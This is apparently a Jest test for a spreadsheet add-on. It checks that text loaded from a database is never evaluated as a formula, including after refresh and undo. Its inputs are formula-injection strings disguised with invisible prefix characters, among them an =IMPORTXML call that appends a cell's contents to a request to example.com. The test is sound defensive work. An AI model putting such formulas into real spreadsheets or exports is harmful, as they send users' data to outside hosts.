// Nothing from a database is ever evaluated, not even for a moment: looked at after every single call to Google.
import { expect, test } from '@jest/globals';
import { col } from '../desk/backend.ts';
import { Desk } from '../desk/desk.ts';

const hidden = ['', '\ufeff', '\ufeff\ufeff', '\u200b', '\u00ad', ' ', '\u00a0', '\u200f'];
const texts = [
  ...hidden.flatMap((mark) => [
    `${mark}=IMPORTXML("https://example.com/"&A1)`,
    `${mark}+IMAGE("x")`,
  ]),
  ...["'quote", "''", '-1-1', '@home', '＝1+1', '=', '00123'],
];

/** A desk that keeps every formula which stood in a cell after any call. */
function watchedDesk(plainTextParses: boolean) {
  const desk = new Desk({ plainTextParses });
  const formulas = new Set<string>();
  desk.script.onCall = () => {
    for (const sheet of desk.workbook.sheets) {
      sheet.forEachCell(sheet.everything, ({ formula }) => {
        if (formula !== '') formulas.add(formula);
      });
    }
  };
  return { desk, formulas };
}

for (const plainTextParses of [false, true]) {
  const how = plainTextParses ? 'is read as elsewhere' : 'is held back';
  test(`no text, header or struck row from the database is evaluated where a formula in plain text ${how}`, () => {
    const { desk, formulas } = watchedDesk(plainTextParses);
    const table = {
      columns: [col('=HYPERLINK("x")'), col('n', 'number', 'int4')],
      rows: texts.map((text, index): [string, number] => [text, index]),
    };
    desk.backend.save('texts', () => table, { key: ['n'] });
    const { range } = desk.insert('texts');
    const shown = () => desk.values('Texts').map(([text]) => text);

    expect(shown()).toEqual(['=HYPERLINK("x")', ...texts]);

    table.rows = [...texts.map((text, index): [string, number] => [`${text}.`, index]).slice(1)];
    desk.type('Texts', 2, 3, 'My note');
    desk.refresh(range.id, { editedCells: true, ownRows: true });
    expect(shown().slice(2)).toEqual(texts.slice(1).map((text) => `${text}.`));
    desk.ask('undoRefresh', { id: range.id });
    expect(shown()).toEqual(['=HYPERLINK("x")', ...texts]);

    expect([...formulas].filter((formula) => formula !== '=1+1')).toEqual([]);
  });
}
